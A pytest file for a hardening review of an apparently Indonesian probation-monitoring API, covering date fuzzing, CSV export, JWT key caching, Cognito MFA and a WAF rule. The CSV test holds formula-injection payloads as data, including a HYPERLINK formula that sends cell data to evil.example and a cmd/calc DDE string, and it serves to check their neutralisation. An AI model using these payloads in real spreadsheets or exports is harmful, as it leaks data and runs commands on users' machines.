"""Issue 13 (hardening): each finding of the outside fuzz run and the code review, driven end to end.

docs/security.md ("Findings of the hardening review") maps each finding to its test here.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, ValidationError

from tests.records_support import checkin_body, new_client, visit_body
from tests.support import assert_problem


@pytest.fixture(scope="module")
def api(module_api):
    return module_api


# ----- fuzz: a time field near either end of the calendar was a 500 ---------------------------------------

def _time_fields() -> list[tuple[type[BaseModel], str]]:
    """Every (request model, field) in any route's body, nested models included, that is an RFC 3339 time."""
    import app  # noqa: F401  (registers the routes)
    from chalicelib.http import ROUTES

    found: set[tuple[type[BaseModel], str]] = set()
    seen: set[type[BaseModel]] = set()

    def walk(model: type[BaseModel]) -> None:
        if model in seen:
            return
        seen.add(model)
        for name, info in model.model_fields.items():
            if any(getattr(getattr(m, "func", None), "__name__", "") == "_aware_time" for m in info.metadata):
                found.add((model, name))
            for arg in _types_in(info.annotation):
                if isinstance(arg, type) and issubclass(arg, BaseModel):
                    walk(arg)

    for doc in ROUTES.values():
        if doc.request is not None:
            walk(doc.request)
    return sorted(found, key=lambda mf: (mf[0].__name__, mf[1]))


def _types_in(annotation: Any) -> list[Any]:
    args = getattr(annotation, "__args__", ()) or ()
    return [annotation, *[t for a in args for t in _types_in(a)]]


TIME_FIELDS = _time_fields()


def test_the_time_fields_are_found():
    names = {name for _, name in TIME_FIELDS}
    assert {"occurred_at", "visited_at", "submitted_at"} <= names, names


def _rfc3339(moment: datetime, offset_minutes: int) -> str:
    sign = "+" if offset_minutes >= 0 else "-"
    hours, minutes = divmod(abs(offset_minutes), 60)
    return f"{moment.strftime('%Y-%m-%dT%H:%M:%S')}{sign}{hours:02d}:{minutes:02d}"


@pytest.mark.parametrize(("model", "field"), TIME_FIELDS, ids=[f"{m.__name__}.{f}" for m, f in TIME_FIELDS])
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(moment=st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59, 59)),
       offset=st.integers(-(24 * 60 - 1), 24 * 60 - 1))
@example(moment=datetime(1, 1, 1), offset=3 * 60 + 4)            # the outside fuzzer's 500
@example(moment=datetime(9999, 12, 31, 23, 59, 59), offset=-1)
@example(moment=datetime(1999, 12, 31, 23, 0), offset=-60)       # 2000-01-01T00:00Z: the first time allowed
@example(moment=datetime(2101, 1, 1, 0, 30), offset=60)          # 2100-12-31T23:30Z: still allowed
def test_property_every_time_field_is_accepted_in_range_or_refused_on_its_field(model, field, moment, offset):
    text = _rfc3339(moment, offset)
    try:
        parsed = model.model_validate({field: text})
    except ValidationError as exc:  # never an OverflowError or anything else: a field error
        on_field = [e for e in exc.errors() if e["loc"] == (field,)]
        utc = moment.replace(tzinfo=timezone(timedelta(minutes=offset)))
        in_range = datetime(1, 1, 2) < moment < datetime(9999, 12, 31) and \
            datetime(2000, 1, 1, tzinfo=UTC) <= utc < datetime(2101, 1, 1, tzinfo=UTC)
        assert bool(on_field) is not in_range, (text, exc.errors())
        return
    raise AssertionError(f"{model.__name__} has required fields besides {field}: {parsed}")  # pragma: no cover


def _progress_body(submitted_at: str) -> dict[str, Any]:
    today = datetime.now(UTC).date()
    return {"stage": "awal", "period_start": str(today - timedelta(days=9)), "period_end": str(today),
            "assessment_summary": "Baik.", "criminogenic_factors": "Lingkungan.", "recommended_program": "Lanjut.",
            "submitted_at": submitted_at}


EXTREMES = ["0001-01-01T00:00:00+03:04", "9999-12-31T23:59:59-00:01", "0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59+14:00", "1970-01-01T00:00:00Z", "2101-01-01T00:00:00Z"]


@pytest.mark.parametrize("value", EXTREMES)
def test_extreme_times_are_422_on_their_field_over_the_api(api, value):
    cid = new_client(api)
    for collection, field, body in (("checkins", "occurred_at", checkin_body(occurred_at=value)),
                                    ("visits", "visited_at", visit_body(visited_at=value)),
                                    ("progress-reports", "submitted_at", _progress_body(value))):
        r = api.put(f"/v1/clients/{cid}/{collection}/{uuid.uuid4()}", "pk.andi", body)
        assert_problem(r, 422, field=field)


@pytest.mark.parametrize(("query", "field"), [("to=0001-01-01", "to"), ("from=0001-01-01&to=2026-01-05", "from"),
                                            ("to=9999-12-31", "to"), ("from=9999-12-30", "from"),
                                            ("from=1999-12-31&to=2000-01-05", "from")])
def test_report_dates_at_the_ends_of_the_calendar_are_422(api, query, field):
    assert_problem(api.get(f"/v1/reports/compliance?{query}", "kasubsi.jaksel"), 422, field=field)


# ----- 6. CSV formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("officer", ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_report_neutralises_cells_that_start_like_a_formula(api, officer):
    from urllib.parse import quote

    r = api.get(f"/v1/reports/compliance?format=csv&officer={quote(officer)}", "kasubsi.jaksel")
    assert r.status == 200, r
    rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig"), newline="")))
    cells = [row[0] for row in rows[1:]]
    assert "'" + officer in cells, cells  # echoed, as text
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_cells_keep_plain_values_and_numbers():
    from chalicelib.services.reports import csv_cell

    assert [csv_cell(v) for v in ("pk.andi", 3, 0.5, None, "TOTAL", "a=b")] == ["pk.andi", 3, 0.5, "", "TOTAL", "a=b"]
    assert csv_cell("=1") == "'=1" and csv_cell("-1") == "'-1"


# ----- 5. JWKS: unknown key ids are negatively cached ---------------------------------------------------

def _foreign_token(api: Any, kid: str) -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = int(datetime.now(UTC).timestamp())
    claims = {"iss": f"https://cognito-idp.ap-southeast-3.amazonaws.com/{api.resources.user_pool_id}",
              "sub": str(uuid.uuid4()), "aud": api.resources.user_pool_client_id, "token_use": "id",
              "iat": now, "exp": now + 3600, "cognito:groups": ["coordinator"], "custom:bapas_id": "jaksel"}
    return jwt.encode(claims, key, algorithm="RS256", headers={"kid": kid})


def test_unknown_key_ids_do_not_refetch_the_jwks_per_request(api, monkeypatch):
    from chalicelib import auth

    clock = [1_000_000.0]
    monkeypatch.setattr(auth.time, "monotonic", lambda: clock[0])
    fetched: list[str] = []
    real_get = auth.requests.get
    monkeypatch.setattr(auth.requests, "get", lambda url, **kw: fetched.append(url) or real_get(url, **kw))
    auth.JWKS.clear()
    before = auth.JWKS.fetches
    good = api.token("pk.andi")
    assert api.get("/v1/me", token=good).status == 200
    assert len(fetched) == 1  # the first request loads the keys
    for i in range(30):  # junk tokens, each with a new kid: answered from the cache
        assert_problem(api.get("/v1/me", token=_foreign_token(api, f"junk-{i}")), 401)
    assert len(fetched) == 1, fetched
    assert api.get("/v1/me", token=good).status == 200
    clock[0] += 301  # after five minutes an unknown kid may refetch once (a rotated pool key is picked up)
    for i in range(10):
        assert_problem(api.get("/v1/me", token=_foreign_token(api, f"later-{i}")), 401)
    assert len(fetched) == 2, fetched
    assert auth.JWKS.fetches - before == 2
    assert api.get("/v1/me", token=good).status == 200 and len(fetched) == 2


def test_a_failed_jwks_fetch_is_not_retried_on_every_request(api, monkeypatch):
    from chalicelib import auth

    clock = [2_000_000.0]
    monkeypatch.setattr(auth.time, "monotonic", lambda: clock[0])
    calls: list[str] = []

    def down(url: str, **kw: Any) -> Any:
        calls.append(url)
        raise auth.requests.ConnectionError("down")

    monkeypatch.setattr(auth.requests, "get", down)
    auth.JWKS.clear()
    token = api.token("pk.andi")
    for _ in range(5):
        assert_problem(api.get("/v1/me", token=token), 401)
    assert len(calls) == 1
    monkeypatch.undo()
    auth.JWKS.clear()
    assert api.get("/v1/me", token=token).status == 200


def test_json_of_a_problem_for_an_unknown_kid_names_no_key(api):
    body = json.loads(api.get("/v1/me", token=_foreign_token(api, "nope")).body)
    assert body["status"] == 401 and "nope" not in body["detail"]


# ----- 2. Cognito: nothing the app client may write reaches an SMS; MFA for coordinators and admins -------

READ_BY_PANTAU = {"name", "phone_number", "email", "custom:bapas_id", "preferred_username"}


def _template_resources() -> dict[str, Any]:
    from infra import template as tpl

    return tpl.load(tpl.TEMPLATE.read_text())["Resources"]


def test_the_app_client_may_write_no_attribute_pantau_reads(aws):
    from infra import template as tpl

    app_client = _template_resources()["UserPoolClient"]["Properties"]
    writable = app_client["WriteAttributes"]
    # Left out or empty, Cognito would let the user write every standard attribute (`name` included).
    assert writable and not set(writable) & READ_BY_PANTAU, writable
    assert writable == tpl.APP_CLIENT_WRITE_ATTRIBUTES
    from chalicelib.adapters.aws import client

    local = client("cognito-idp").describe_user_pool_client(
        UserPoolId=aws.resources.user_pool_id, ClientId=aws.resources.user_pool_client_id)["UserPoolClient"]
    assert local["WriteAttributes"] == writable  # the local stack (moto) is configured the same way


def test_the_deployed_functions_require_mfa_for_coordinators_and_admins():
    from infra import template as tpl

    r = _template_resources()
    pool = r["UserPool"]["Properties"]
    assert pool["MfaConfiguration"] == "OPTIONAL" and pool["EnabledMfas"] == ["SOFTWARE_TOKEN_MFA"]
    assert tpl.ENVIRONMENT["PANTAU_MFA_ROLES"] == "coordinator,admin"
    for fn in tpl.app_functions():
        assert r[fn["cfn"]]["Properties"]["Environment"]["Variables"]["PANTAU_MFA_ROLES"] == "coordinator,admin"


def _enrol_totp(aws: Any, username: str) -> str:
    """Set up an authenticator app for the user the way the app does, then sign in with a code: the ID token."""
    from chalicelib.adapters.aws import client
    from infra.seed import PASSWORD

    idp = client("cognito-idp")
    cid = aws.resources.user_pool_client_id
    first = idp.initiate_auth(ClientId=cid, AuthFlow="USER_PASSWORD_AUTH",
                              AuthParameters={"USERNAME": username, "PASSWORD": PASSWORD})["AuthenticationResult"]
    idp.associate_software_token(AccessToken=first["AccessToken"])
    idp.verify_software_token(AccessToken=first["AccessToken"], UserCode="123456")
    idp.set_user_mfa_preference(AccessToken=first["AccessToken"],
                                SoftwareTokenMfaSettings={"Enabled": True, "PreferredMfa": True})
    challenge = idp.initiate_auth(ClientId=cid, AuthFlow="USER_PASSWORD_AUTH",
                                  AuthParameters={"USERNAME": username, "PASSWORD": PASSWORD})
    assert challenge["ChallengeName"] == "SOFTWARE_TOKEN_MFA"  # from now on every sign-in asks for a code
    done = idp.respond_to_auth_challenge(ClientId=cid, ChallengeName="SOFTWARE_TOKEN_MFA",
                                         Session=challenge["Session"],
                                         ChallengeResponses={"USERNAME": username, "SOFTWARE_TOKEN_MFA_CODE": "123456"})
    return done["AuthenticationResult"]["IdToken"]


def test_coordinators_and_admins_without_totp_are_refused_by_the_gate(aws, monkeypatch):
    from chalicelib import config
    from chalicelib.adapters.directory import DIRECTORY

    monkeypatch.setenv("PANTAU_MFA_ROLES", "coordinator,admin")
    config.reset()
    try:
        for user, path in (("kasubsi.jaksel", "/v1/clients"), ("admin.pusat", "/v1/me")):
            body = assert_problem(aws.get(path, user), 403, code="mfa_required")
            assert "TOTP" in body["detail"]
        assert aws.get("/v1/clients", "pk.andi").status == 200  # PKs are not asked for MFA
        assert aws.get("/v1/health").status == 200
        token = _enrol_totp(aws, "kasubsi.jaksel")
        DIRECTORY.clear()  # (the gate caches the user's MFA state for 5 minutes)
        assert aws.get("/v1/clients", token=token).status == 200
        assert aws.get("/v1/clients", "kasubsi.jaksel").status == 200
        assert_problem(aws.get("/v1/me", "admin.pusat"), 403, code="mfa_required")
    finally:
        monkeypatch.delenv("PANTAU_MFA_ROLES")
        config.reset()
    assert aws.get("/v1/me", "admin.pusat").status == 200  # the local stack runs without the requirement


# ----- 5. The template puts a WAF rate-based rule in front of the API -----------------------------------

def test_the_api_stage_sits_behind_a_waf_rate_based_rule():
    from infra import template as tpl

    r = _template_resources()
    acl = r["ApiFirewall"]["Properties"]
    assert acl["Scope"] == "REGIONAL" and acl["DefaultAction"] == {"Allow": {}}
    rules = {rule["Name"]: rule for rule in acl["Rules"]}
    rate = rules["rate-per-ip"]
    assert rate["Action"] == {"Block": {}}
    assert rate["Statement"]["RateBasedStatement"] == {"Limit": tpl.WAF_RATE_LIMIT_PER_IP, "AggregateKeyType": "IP"}
    assert rules["api-needs-a-bearer-jwt"]["Action"] == {"Block": {}}
    association = r["ApiFirewallAssociation"]["Properties"]
    assert association["WebACLArn"] == {"Fn::GetAtt": ["ApiFirewall", "Arn"]}
    assert {"Ref": "RestAPI"} in association["ResourceArn"]["Fn::Join"][1]
